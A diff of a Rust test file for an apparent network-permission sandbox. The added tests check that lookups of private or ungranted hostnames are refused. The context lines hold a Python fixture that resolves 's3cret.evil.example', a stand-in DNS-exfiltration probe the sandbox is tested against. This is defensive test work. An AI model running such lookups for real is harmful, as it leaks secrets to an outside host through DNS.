@@ -171,3 +171,38 @@ import socket
 try: socket.getaddrinfo("s3cret.evil.example", 80)
 except OSError: pass
 "#;
+
+#[test]
+fn a_program_is_told_why_a_name_that_is_granted_leads_nowhere() {
+    let zone = json!({ "home.example": [[PRIVATE]] });
+    let internet = Internet::with(&zone).file("home.mjs", "export default () => fetch('http://home.example/');");
+    let outside = internet.outside(&["get.mjs", "http://home.example/"]);
+    assert_eq!(outside, [format!("{PRIVATE} home.example /")]);
+    let inside = internet.inside(&["--allow-net=home.example:80"], &["home.mjs"]);
+    let told = ["permission", "resource", "rule"].map(|field| inside.envelope.text(&format!("/error/{field}")));
+    assert_eq!(told, ["net", "home.example:80", "reserved"], "{}", inside.envelope.json);
+    let why =
+        "connecting to \"home.example:80\" is not allowed: the name leads to an address that is granted by itself";
+    assert!(inside.envelope.text("/error/message").contains(why), "{}", inside.envelope.json);
+}
+
+/// Looks a name up in several ways.
+const LOOK_UP: &str = r#"
+import dns from "node:dns/promises";
+const [name] = process.argv.slice(2);
+const ways = [
+  async () => (await dns.lookup(name)).address, async () => (await dns.resolve4(name))[0],
+  async () => (await new dns.Resolver().resolve4(name))[0], async () => (await Bun.dns.lookup(name))[0].address,
+];
+for (const way of ways) console.log(await way().catch((error) => error.name));
+"#;
+
+#[test]
+fn programs_look_up_names_of_which_some_port_is_granted() {
+    let zone = json!({ "a.example": [[PUBLIC]], "b.example": [[OTHER_PUBLIC]] });
+    let internet = Internet::with(&zone).file("look.mjs", LOOK_UP);
+    assert_eq!(internet.outside(&["look.mjs", "b.example"]), [OTHER_PUBLIC; 4]);
+    let inside = |name| internet.inside(&["--allow-net=a.example:8080"], &["look.mjs", name]);
+    assert_eq!(inside("a.example").lines(), ["198.18.0.1"; 4]);
+    assert_eq!(inside("b.example").lines(), ["SecurityError"; 4]);
+}
